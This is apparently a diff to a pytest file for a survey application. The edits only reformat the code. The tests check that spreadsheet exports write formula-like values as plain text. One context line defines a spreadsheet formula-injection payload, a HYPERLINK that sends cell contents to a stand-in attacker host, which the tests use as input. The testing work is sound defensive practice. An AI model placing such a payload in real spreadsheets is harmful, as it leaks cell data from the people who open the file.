@@ -19,8 +19,7 @@ LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 def _cells(path):
     sheet = load_workbook(path).active
-    return {cell.value: cell for row in sheet.iter_rows() for cell in row
-            if cell.value is not None}
+    return {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
 
 
 def _no_formula_in_file(path):
@@ -34,8 +33,7 @@ def _no_formula_in_file(path):
 @pytest.mark.parametrize("start", FORMULA_STARTS)
 def test_every_risky_start_is_written_as_text(tmp_path, start):
     value = f"{start}1+1"
-    path = write_table(tmp_path / "t.xlsx", "T", value, [value], [[value, 7, -2.5]],
-                       notes=[value])
+    path = write_table(tmp_path / "t.xlsx", "T", value, [value], [[value, 7, -2.5]], notes=[value])
     sheet = load_workbook(path).active
     risky = [c for row in sheet.iter_rows() for c in row if c.value == value]
     assert len(risky) == 4  # title, header, cell, note
@@ -52,12 +50,16 @@ def test_participation_export_writes_a_formula_department_name_as_text(qapp, tmp
     from app.ui.item_models.rows_table_model import Column, RowsTableModel
     from app.ui.table_export import export_model
 
-    model = RowsTableModel([
-        Column(lambda: "Department", lambda r: r.department_ru),
-        Column(lambda: "Respondents", lambda r: r.finished),
-        Column(lambda: "Headcount", lambda r: r.headcount)])
-    model.set_rows([ParticipationRow(1, LINK, LINK, 12, 9),
-                    ParticipationRow(2, "-Отдел", "-Бөлім", 8, 6)])
+    model = RowsTableModel(
+        [
+            Column(lambda: "Department", lambda r: r.department_ru),
+            Column(lambda: "Respondents", lambda r: r.finished),
+            Column(lambda: "Headcount", lambda r: r.headcount),
+        ]
+    )
+    model.set_rows(
+        [ParticipationRow(1, LINK, LINK, 12, 9), ParticipationRow(2, "-Отдел", "-Бөлім", 8, 6)]
+    )
     path = export_model(None, model, "Participation", target=tmp_path / "participation.xlsx")
     cells = _cells(path)
     for text in (LINK, "-Отдел"):
@@ -100,7 +102,12 @@ def test_the_paper_template_protects_text_from_an_office_instrument(tmp_path):
     risky = replace(item, text={"ru": "=1+1", "kk": "=1+1"})
     instrument = replace(instrument, items=(risky, *instrument.items[1:]))
     path = build_template(instrument, tmp_path / "template.xlsx")
-    found = [c for sheet in load_workbook(path).worksheets for row in sheet.iter_rows()
-             for c in row if c.value == "=1+1"]
+    found = [
+        c
+        for sheet in load_workbook(path).worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if c.value == "=1+1"
+    ]
     assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
     _no_formula_in_file(path)
